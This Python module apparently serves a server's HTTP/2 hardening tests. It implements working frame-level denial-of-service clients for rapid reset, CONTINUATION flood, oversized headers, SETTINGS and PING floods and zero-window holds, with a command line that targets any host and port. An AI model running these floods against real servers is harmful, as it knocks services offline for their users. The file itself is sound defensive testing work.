#!/usr/bin/env python3
"""HTTP/2 attack clients at frame level, for scoregate's HTTP/2 hardening tests.

Why: the known HTTP/2 denial-of-service patterns (rapid reset CVE-2023-44487, CONTINUATION
flood CVE-2024-27316 and friends, SETTINGS/PING floods, zero-window holds, huge header lists)
need a client that sends frames a well-behaved HTTP/2 library refuses to send. Frames are
built with hyperframe and written by hand; header blocks are HPACK-encoded by hand or with
hpack. Each attack opens its own connection (h2c prior knowledge, or TLS with ALPN "h2"),
runs once, and returns an AttackResult saying how the server reacted. normal_request() is a
well-behaved request (h2 state machine) to check the server still serves after an attack.

Every function takes host, port and these keywords:
  tls=None         None: plain h2c; True: TLS without verification; a CA file path: TLS
                   verified against it; or an ssl.SSLContext (ALPN "h2" is set on it)
  server_hostname  SNI / verified name (default: host); authority: :authority (default host:port)
  headers=()       extra request headers, e.g. [("authorization", "Bearer KEY")]
  timeout          overall limit in seconds
Attacks: rapid_reset, continuation_flood, big_header_list, settings_flood, ping_flood, zero_window.
Command line (manual use): h2_attack.py ATTACK HOST PORT [--tls] [--cafile F] [key=value ...]
"""
import json
import select
import socket
import ssl
import sys
import time
from dataclasses import asdict, dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
               8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
               12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
MAX_FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE's initial value: every server accepts frames this big


@dataclass
class AttackResult:
    attack: str
    frames_sent: int = 0
    bytes_sent: int = 0
    send_error: str = None        # why sending stopped early ("timeout" = the server stopped reading)
    frames_received: int = 0      # frames the server sent back ("answered")
    received: dict = field(default_factory=dict)   # frame type name -> count
    goaway: bool = False
    goaway_error: int = None      # error code of the (last) GOAWAY
    goaway_error_name: str = None
    goaway_last_stream: int = None
    closed: bool = False          # the server closed (or reset) the TCP connection
    resets: dict = field(default_factory=dict)     # stream id -> RST_STREAM error code received
    responses: dict = field(default_factory=dict)  # stream id -> :status of response HEADERS
    settings_acks: int = 0
    ping_acks: int = 0
    data_bytes: int = 0
    timed_out: bool = False       # the attack's time ran out with no reaction from the server
    elapsed: float = 0.0          # seconds from connect to the end of the attack
    detail: dict = field(default_factory=dict)

    def summary(self):
        return json.dumps(asdict(self), default=str)


def client_tls(cafile=None, verify=True):
    """A client context offering only ALPN "h2" (verification against cafile, or none)."""
    ctx = ssl.create_default_context(cafile=cafile) if verify else ssl._create_unverified_context()
    ctx.set_alpn_protocols(["h2"])
    return ctx


def _tls_context(tls):
    if tls is None or tls is False:
        return None
    if tls is True:
        return client_tls(verify=False)
    if isinstance(tls, ssl.SSLContext):
        tls.set_alpn_protocols(["h2"])
        return tls
    return client_tls(cafile=str(tls))


def _hpack_int(value, prefix_bits, flags=0):
    """RFC 7541 5.1 integer encoding with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out = bytearray([flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """One header field as 'literal without indexing, new name' (RFC 7541 6.2.2): a complete,
    valid representation that never touches the dynamic table, so floods cost raw bytes."""
    n, v = name.encode(), value.encode() if isinstance(value, str) else value
    return b"\x00" + _hpack_int(len(n), 7) + n + _hpack_int(len(v), 7) + v


def _peer_socket_established(ours, peer):
    """Whether the other end of our connection (`ours` -> `peer`, addresses of this host,
    127.0.0.1) is in state ESTABLISHED: its line in /proc/net/tcp (local = peer, remote = ours;
    addresses as the kernel prints them, the IPv4 address little-endian, the port big-endian,
    in hex)."""
    def hexaddr(addr):
        ip, port = addr[:2]
        return "".join(f"{b:02X}" for b in reversed(socket.inet_aton(ip))) + f":{port:04X}"
    local, remote = hexaddr(peer), hexaddr(ours)
    with open("/proc/net/tcp") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[1] == local and fields[2] == remote:
                return fields[3] == "01"  # TCP_ESTABLISHED
    return False  # closed and gone


class RawConnection:
    """One HTTP/2 connection driven by hand in one thread: send bytes, poll for frames."""

    def __init__(self, host, port, tls=None, server_hostname=None, authority=None, timeout=10,
                 settings=None, result=None, rcvbuf=None):
        self.result = result or AttackResult("raw")
        self.t0 = time.monotonic()
        self.deadline = self.t0 + timeout
        self.tls = _tls_context(tls)
        if rcvbuf:
            # a fixed receive buffer (set before connecting, which turns off the kernel's
            # autotuning, here up to 32 MiB): a client that does not read stops taking bytes soon
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            sock.settimeout(min(timeout, 10))
            sock.connect((host, port))
        else:
            sock = socket.create_connection((host, port), timeout=min(timeout, 10))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.addresses = (sock.getsockname(), sock.getpeername())  # after a reset, unreadable
        if self.tls:
            sock = self.tls.wrap_socket(sock, server_hostname=server_hostname or host)
            if sock.selected_alpn_protocol() != "h2":
                raise ConnectionError(f"ALPN chose {sock.selected_alpn_protocol()!r}, not h2")
        sock.settimeout(2)
        self.sock = sock
        self.scheme = "https" if self.tls else "http"
        self.authority = authority or f"{host}:{port}"
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.buf = bytearray()
        self.pending_headers = None  # (stream id, block so far) while CONTINUATIONs are due
        self.auto_ack = True
        self.next_stream = 1
        first = SettingsFrame(0, settings=settings or {})
        self.send(PREFACE + first.serialize(), frames=1)

    # -- sending ---------------------------------------------------------------------------------
    def send(self, data, frames=1):
        """Writes bytes (`frames` frames); False once the connection cannot take more."""
        if self.result.closed or self.result.send_error:
            return False  # after a send error, only reading goes on
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.result.send_error = "timeout"
            return False
        except (OSError, ssl.SSLError) as e:
            # Not yet `closed`: what the server sent before its reset (its GOAWAY) is still
            # queued in our socket, and the next poll() reads it before the error.
            self.result.send_error = type(e).__name__
            return False
        self.result.frames_sent += frames
        self.result.bytes_sent += len(data)
        return True

    def hold_unread(self, seconds):
        """Reads nothing for up to `seconds`, or until the server ends the connection, so that
        what the server answers piles up on its side. A flood written into a server that reads
        slower than we write lands in its receive buffer (tcp_rmem grows to 32 MiB); reading as
        soon as we are done would drain its answers as fast as it makes them and no bound would
        ever be reached. The server has ended the connection when its socket leaves ESTABLISHED
        (closed, reset, or FIN_WAIT1). Our own state does not show it in time: a FIN sent behind
        answers that fill our receive buffer waits for us to read (our window is 0)."""
        end = time.monotonic() + seconds
        while time.monotonic() < end and _peer_socket_established(*self.addresses):
            time.sleep(0.02)

    def request_block(self, path, method="GET", headers=()):
        hdrs = [(":method", method), (":scheme", self.scheme), (":authority", self.authority),
                (":path", path), *[(k.lower(), v) for k, v in headers]]
        return self.encoder.encode(hdrs)

    def stream_id(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    # -- receiving -------------------------------------------------------------------------------
    def over(self):
        return self.result.closed or self.result.goaway

    def poll(self, wait=0.0):
        """Reads whatever arrives within `wait` seconds and records the frames."""
        if self.result.closed:
            return
        end = time.monotonic() + wait
        while True:
            pending = self.tls is not None and self.sock.pending()
            left = max(0.0, end - time.monotonic())
            if not pending and not select.select([self.sock], [], [], left)[0]:
                return
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                return
            except (OSError, ssl.SSLError) as e:
                self.result.detail.setdefault("recv_error", type(e).__name__)
                data = b""
            if not data:
                self.result.closed = True
                return
            self.buf += data
            self._frames()

    def wait_until(self, done, quiet=None):
        """Polls until done(), the server closed, the deadline, or `quiet` seconds without a frame."""
        last, seen = time.monotonic(), self.result.frames_received
        while not done() and not self.result.closed and time.monotonic() < self.deadline:
            self.poll(0.05)
            now = time.monotonic()
            if self.result.frames_received != seen:
                last, seen = now, self.result.frames_received
            elif quiet is not None and now - last >= quiet:
                return

    def _frames(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(bytes(self.buf[9:9 + length])))
            del self.buf[:9 + length]
            self._record(frame)

    def _record(self, f):
        r = self.result
        r.frames_received += 1
        name = type(f).__name__.replace("Frame", "").upper()
        r.received[name] = r.received.get(name, 0) + 1
        if isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                r.settings_acks += 1
            elif self.auto_ack:
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(f, PingFrame) and "ACK" in f.flags:
            r.ping_acks += 1
        elif isinstance(f, GoAwayFrame):
            r.goaway, r.goaway_error = True, f.error_code
            r.goaway_error_name = ERROR_NAMES.get(f.error_code, str(f.error_code))
            r.goaway_last_stream = f.last_stream_id
            if f.additional_data:
                r.detail["goaway_debug"] = bytes(f.additional_data[:200]).decode(errors="replace")
        elif isinstance(f, RstStreamFrame):
            r.resets[f.stream_id] = f.error_code
        elif isinstance(f, DataFrame):
            r.data_bytes += len(f.data)
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            self._header_block(f)

    def _header_block(self, f):
        if isinstance(f, HeadersFrame):
            self.pending_headers = (f.stream_id, bytes(f.data))
        elif self.pending_headers:
            self.pending_headers = (self.pending_headers[0], self.pending_headers[1] + bytes(f.data))
        if "END_HEADERS" not in f.flags or not self.pending_headers:
            return
        sid, block = self.pending_headers
        self.pending_headers = None
        try:
            headers = dict(self.decoder.decode(block))
        except hpack.HPACKError as e:
            self.result.detail["hpack_error"] = repr(e)
            return
        status = headers.get(b":status") or headers.get(":status")
        if status is not None and sid not in self.result.responses:
            self.result.responses[sid] = int(status)

    def close(self):
        self.result.elapsed = time.monotonic() - self.t0
        try:
            self.sock.close()
        except OSError:
            pass
        return self.result


def _open(name, host, port, tls, server_hostname, authority, timeout, settings=None, rcvbuf=None):
    result = AttackResult(name)
    conn = RawConnection(host, port, tls=tls, server_hostname=server_hostname, authority=authority,
                         timeout=timeout, settings=settings, result=result, rcvbuf=rcvbuf)
    conn.poll(0.1)  # the server's SETTINGS (acknowledged)
    return conn


def rapid_reset(host, port, *, n=100, rounds=10, path="/", method="GET", headers=(), tls=None,
                server_hostname=None, authority=None, drain=1.0, timeout=15):
    """n streams opened (HEADERS with END_STREAM) and cancelled (RST_STREAM CANCEL) in one write,
    `rounds` times; then reads until the server goes quiet for `drain` s or closes.
    detail: streams_opened, rounds_sent."""
    c = _open("rapid_reset", host, port, tls, server_hostname, authority, timeout)
    opened = sent_rounds = 0
    for _ in range(rounds):
        batch = bytearray()
        for _ in range(n):
            sid = c.stream_id()
            batch += HeadersFrame(sid, c.request_block(path, method, headers),
                                  flags=["END_HEADERS", "END_STREAM"]).serialize()
            batch += RstStreamFrame(sid, error_code=8).serialize()
        if not c.send(bytes(batch), frames=2 * n):
            break
        opened += n
        sent_rounds += 1
        c.poll(0)
        if c.over():
            break
    c.wait_until(c.over, quiet=drain)
    c.result.detail.update(streams_opened=opened, rounds_sent=sent_rounds)
    return c.close()


def continuation_flood(host, port, *, frames=2000, frame_size=4096, path="/", headers=(), tls=None,
                       server_hostname=None, authority=None, drain=1.0, timeout=15, max_seconds=8):
    """HEADERS without END_HEADERS, then up to `frames` CONTINUATION frames of `frame_size` bytes
    of valid literal header fields, none with END_HEADERS; stops early when the server reacts.
    detail: continuations_sent, header_bytes_sent."""
    c = _open("continuation_flood", host, port, tls, server_hostname, authority, timeout)
    sid = c.stream_id()
    c.send(HeadersFrame(sid, c.request_block(path, "GET", headers), flags=["END_STREAM"]).serialize())
    field_ = literal("x-flood", "a" * 100)
    payload = field_ * max(1, frame_size // len(field_))
    sent, stop = 0, time.monotonic() + max_seconds
    chunk = ContinuationFrame(sid, payload).serialize()
    while sent < frames and time.monotonic() < stop:
        k = min(16, frames - sent)
        if not c.send(chunk * k, frames=k):
            break
        sent += k
        c.poll(0)
        if c.over() or c.result.resets:
            break
    c.wait_until(lambda: c.over() or bool(c.result.resets), quiet=drain)
    c.result.detail.update(continuations_sent=sent, header_bytes_sent=sent * len(payload))
    return c.close()


def big_header_list(host, port, *, size=1 << 20, value_size=4096, path="/", method="GET", headers=(),
                    tls=None, server_hostname=None, authority=None, drain=2.0, timeout=15):
    """One request whose header block holds `size` bytes of headers (x-big-N: value_size bytes
    each), sent as HEADERS + CONTINUATIONs with END_HEADERS on the last: a complete, valid but
    oversized header list. Waits for the answer (e.g. 431), a reset, GOAWAY or close.
    detail: header_block_bytes, frames."""
    c = _open("big_header_list", host, port, tls, server_hostname, authority, timeout)
    sid = c.stream_id()
    block = bytearray(c.request_block(path, method, headers))
    i = 0
    while len(block) < size:
        block += literal(f"x-big-{i}", "v" * min(value_size, max(1, size - len(block))))
        i += 1
    parts = [bytes(block[k:k + MAX_FRAME]) for k in range(0, len(block), MAX_FRAME)]
    out = bytearray()
    for k, part in enumerate(parts):
        last = ["END_HEADERS"] if k == len(parts) - 1 else []
        f = HeadersFrame(sid, part, flags=["END_STREAM", *last]) if k == 0 else ContinuationFrame(sid, part, flags=last)
        out += f.serialize()
    c.send(bytes(out), frames=len(parts))
    c.wait_until(lambda: c.over() or sid in c.result.resets or sid in c.result.responses, quiet=drain)
    c.result.detail.update(header_block_bytes=len(block), frames=len(parts), headers=i)
    return c.close()


def settings_flood(host, port, *, n=5000, settings=None, tls=None, server_hostname=None, authority=None,
                   drain=1.0, timeout=15, hold=0):
    """n SETTINGS frames (default each sets ENABLE_PUSH=0) written without reading anything, so
    the server's ACKs pile up on its side (a 64 KiB receive buffer); then, after up to `hold` s
    more without reading (RawConnection.hold_unread), reads. send_error "timeout" means the
    server stopped reading. detail: settings_frames_sent."""
    c = RawConnection(host, port, tls=tls, server_hostname=server_hostname, authority=authority,
                      timeout=timeout, result=AttackResult("settings_flood"), rcvbuf=64 * 1024)
    frame = SettingsFrame(0, settings=settings or {SettingsFrame.ENABLE_PUSH: 0}).serialize()
    sent = 0
    while sent < n:
        k = min(100, n - sent)
        if not c.send(frame * k, frames=k):
            break
        sent += k
    c.hold_unread(hold)
    c.wait_until(c.over, quiet=drain)
    c.result.detail.update(settings_frames_sent=sent)
    return c.close()


def ping_flood(host, port, *, n=5000, read_while_sending=False, tls=None, server_hostname=None,
               authority=None, drain=1.0, timeout=15, hold=0):
    """n PING frames (8 bytes of opaque data each); reads while sending only if asked (if not,
    with a 64 KiB receive buffer, and after up to `hold` s more without reading,
    RawConnection.hold_unread). ping_acks counts the answers. detail: pings_sent."""
    c = _open("ping_flood", host, port, tls, server_hostname, authority, timeout,
              rcvbuf=None if read_while_sending else 64 * 1024)
    sent = 0
    while sent < n:
        k = min(100, n - sent)
        batch = b"".join(PingFrame(0, opaque_data=(sent + j).to_bytes(8, "big")).serialize() for j in range(k))
        if not c.send(batch, frames=k):
            break
        sent += k
        if read_while_sending:
            c.poll(0)
    if not read_while_sending:
        c.hold_unread(hold)
    c.wait_until(lambda: c.over() or c.result.ping_acks >= sent, quiet=drain)
    c.result.detail.update(pings_sent=sent)
    return c.close()


def zero_window(host, port, *, path="/", method="GET", headers=(), hold=10, tls=None, server_hostname=None,
                authority=None, timeout=None):
    """Announces SETTINGS_INITIAL_WINDOW_SIZE 0, requests `path` (ask for a large response) and
    never sends WINDOW_UPDATE. Returns when the server resets the stream, sends GOAWAY or closes,
    or after `hold` s (timed_out=True). detail: reacted_after (s from the request, or None)."""
    c = RawConnection(host, port, tls=tls, server_hostname=server_hostname, authority=authority,
                      timeout=timeout or hold + 5, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0},
                      result=AttackResult("zero_window"))
    sid = c.stream_id()
    c.send(HeadersFrame(sid, c.request_block(path, method, headers), flags=["END_HEADERS", "END_STREAM"]).serialize())
    t_req = time.monotonic()
    c.deadline = min(c.deadline, t_req + hold)
    c.wait_until(lambda: c.over() or sid in c.result.resets)
    reacted = c.over() or sid in c.result.resets
    c.result.timed_out = not reacted
    c.result.detail.update(reacted_after=round(time.monotonic() - t_req, 3) if reacted else None)
    return c.close()


@dataclass
class Response:
    status: int = None
    headers: list = field(default_factory=list)
    body: bytes = b""
    trailers: list = field(default_factory=list)
    data_frames: int = 0
    reset: int = None            # RST_STREAM error code, if the stream was reset
    goaway: int = None           # GOAWAY error code, if one came
    ended: bool = False          # END_STREAM seen
    elapsed: float = 0.0


def normal_request(host, port, path="/", *, method="GET", body=None, headers=(), tls=None, server_hostname=None,
                   authority=None, timeout=10):
    """One well-behaved request over a new connection (h2 state machine); returns a Response."""
    t0 = time.monotonic()
    ctx = _tls_context(tls)
    sock = socket.create_connection((host, port), timeout=timeout)
    if ctx:
        sock = ctx.wrap_socket(sock, server_hostname=server_hostname or host)
    sock.settimeout(timeout)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sid = conn.get_next_available_stream_id()
    hdrs = [(":method", method), (":scheme", "https" if ctx else "http"),
            (":authority", authority or f"{host}:{port}"), (":path", path), *[(k.lower(), v) for k, v in headers]]
    if body is not None:
        hdrs.append(("content-length", str(len(body))))
    conn.send_headers(sid, hdrs, end_stream=not body)
    resp, todo = Response(), memoryview(body or b"")
    try:
        sock.sendall(conn.data_to_send())
        while not resp.ended and resp.reset is None and resp.goaway is None and time.monotonic() - t0 < timeout:
            todo = _send_some(conn, sid, todo)
            sock.sendall(conn.data_to_send())
            data = sock.recv(65536)
            if not data:
                break
            for ev in conn.receive_data(data):
                _on_event(conn, ev, resp)
            sock.sendall(conn.data_to_send())
    finally:
        sock.close()
    resp.elapsed = time.monotonic() - t0
    return resp


def _send_some(conn, sid, todo):
    """Sends as much of the request body as flow control allows; ends the stream when done."""
    while todo:
        try:
            n = min(len(todo), conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
        except h2.exceptions.StreamClosedError:
            return memoryview(b"")
        if n <= 0:
            return todo
        conn.send_data(sid, todo[:n].tobytes(), end_stream=(n == len(todo)))
        todo = todo[n:]
    return todo


def _on_event(conn, ev, resp):
    if isinstance(ev, h2.events.ResponseReceived):
        resp.headers = list(ev.headers)
        resp.status = int(dict(ev.headers)[":status"])
    elif isinstance(ev, h2.events.DataReceived):
        resp.body += ev.data
        resp.data_frames += 1 if ev.data else 0  # an empty DATA frame only carries END_STREAM
        conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
    elif isinstance(ev, h2.events.TrailersReceived):
        resp.trailers = list(ev.headers)
    elif isinstance(ev, h2.events.StreamEnded):
        resp.ended = True
    elif isinstance(ev, h2.events.StreamReset):
        resp.reset = ev.error_code
    elif isinstance(ev, h2.events.ConnectionTerminated):
        resp.goaway = ev.error_code


ATTACKS = {"rapid_reset": rapid_reset, "continuation_flood": continuation_flood,
           "big_header_list": big_header_list, "settings_flood": settings_flood,
           "ping_flood": ping_flood, "zero_window": zero_window}


def main(argv):
    """h2_attack.py ATTACK HOST PORT [--tls] [--cafile F] [key=value ...]: prints the result."""
    name, host, port, rest = argv[0], argv[1], int(argv[2]), argv[3:]
    kw, tls = {}, None
    while rest:
        a = rest.pop(0)
        if a == "--tls":
            tls = True
        elif a == "--cafile":
            tls = rest.pop(0)
        else:
            k, v = a.split("=", 1)
            kw[k] = int(v) if v.lstrip("-").isdigit() else v
    fn = normal_request if name == "normal_request" else ATTACKS[name]
    out = fn(host, port, tls=tls, **kw)
    print(out.summary() if hasattr(out, "summary") else out)


if __name__ == "__main__":
    main(sys.argv[1:])
